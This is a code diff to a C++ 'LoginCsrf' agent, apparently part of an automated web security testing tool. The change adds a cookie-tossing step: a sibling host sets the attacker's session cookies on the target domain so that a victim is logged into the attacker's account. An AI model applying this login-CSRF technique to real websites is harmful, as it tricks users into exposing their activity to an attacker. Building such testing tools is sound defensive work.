@@ -33,6 +33,8 @@ class LoginCsrf final : public Agent {
             lure.show_at(target.surface().host + "/?https://" + target.surface().host + "/",
                          submitting(forms.back()), {{"referrer-policy", "unsafe-url"}});
         }
+        if (OwnHost* sibling = sibling_host(target); sibling != nullptr && !visitor.tokens.empty())
+            Lure(target, *sibling).show(submitting(forms.back()), tossed(target, *login, visitor));
         harvest(target);
         target.note("The victim was sent through the login form with the attacker's account.");
     }
@@ -47,6 +49,17 @@ class LoginCsrf final : public Agent {
                 fields.push_back({login.parameters[i].name, std::move(value)});
         }
         return fields;
+    }
+
+    // A host beside the app's sets the cookies that go with the attacker's form.
+    static http::HeaderList tossed(Target const& target, Endpoint const& login,
+                                   OwnForm const& visitor) {
+        http::HeaderList headers;
+        for (http::QueryPair const& each : visitor.cookies)
+            headers.append("set-cookie", each.name + "=" + each.value +
+                                             "; Domain=" + target.surface().host +
+                                             "; Path=" + login.path + "; Secure");
+        return headers;
     }
 
     // The victim goes on as ever, and the attacker looks into his own account.
